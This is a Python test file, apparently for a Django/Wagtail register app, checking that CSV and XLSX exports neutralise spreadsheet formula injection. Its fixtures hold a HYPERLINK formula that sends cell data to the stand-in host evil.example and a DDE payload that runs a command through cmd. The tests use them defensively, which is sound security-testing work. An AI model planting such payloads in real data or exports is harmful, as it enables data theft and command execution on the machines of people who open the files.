"""The register's exports and the admin's listing exports are safe to open in a spreadsheet
program (issue 11): formulas from the register's data come out as text."""

import csv
import io
import zipfile

from django.urls import reverse

import pytest
from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
DDE = "=cmd|' /C calc'!A0"


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_formulas(content: bytes) -> list[str]:
    """The sheets holding <f> elements: what a spreadsheet program would evaluate."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def all_values(workbook):
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


@pytest.fixture
def formula_register(register_page, register_data, rebuild_search_index):
    from demo.factories.registers import OrganisationFactory, PartnershipFactory

    evil_org = OrganisationFactory(name=DDE, cbs_code="GM9999")
    PartnershipFactory(
        name=HYPERLINK, abbreviation="@SUM(A1)", seat_place="-2+3", participants=[evil_org]
    )
    rebuild_search_index()
    return register_page


@pytest.mark.django_db
def test_register_csv_neutralises_formulas(client, formula_register):
    rows = csv_rows(client.get(formula_register.url, {"format": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'@SUM(A1)" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]

    members = csv_rows(client.get(formula_register.url, {"format": "csv", "tabel": "deelnemers"}))
    member_cells = [cell for row in members for cell in row]
    assert "'" + DDE in member_cells and DDE not in member_cells


@pytest.mark.django_db
def test_register_xlsx_has_values_only(client, formula_register):
    response = client.get(formula_register.url, {"format": "xlsx"})
    content = body(response)
    assert xlsx_formulas(content) == []
    values = all_values(load_workbook(io.BytesIO(content)))
    assert "'" + HYPERLINK in values and "'" + DDE in values
    assert not [v for v in values if isinstance(v, str) and v.startswith("=")]


@pytest.mark.django_db
def test_export_imports_back_unchanged(client, formula_register, tmp_path):
    """The quote is for spreadsheet programs: our importer reads the name as it was."""
    from registers.exchange import partnership_values

    rows = csv_rows(client.get(formula_register.url, {"format": "csv"}))
    header, *body = rows
    names = {partnership_values(dict(zip(header, row, strict=True)))["name"] for row in body}
    assert HYPERLINK in names


@pytest.mark.django_db
def test_admin_listing_exports_neutralise_formulas(client, formula_register):
    from demo.factories.users import UserFactory

    client.force_login(UserFactory(groups=["Registerbeheer"]))
    for url_name in (
        "wagtailsnippets_registers_partnership:list",
        "wagtailsnippets_registers_organisation:list",
    ):
        rows = csv_rows(client.get(reverse(url_name), {"export": "csv"}))
        cells = [cell for row in rows for cell in row]
        assert any(cell in {"'" + HYPERLINK, "'" + DDE} for cell in cells), url_name
        assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))], url_name

        response = client.get(reverse(url_name), {"export": "xlsx"})
        content = body(response)
        assert xlsx_formulas(content) == []
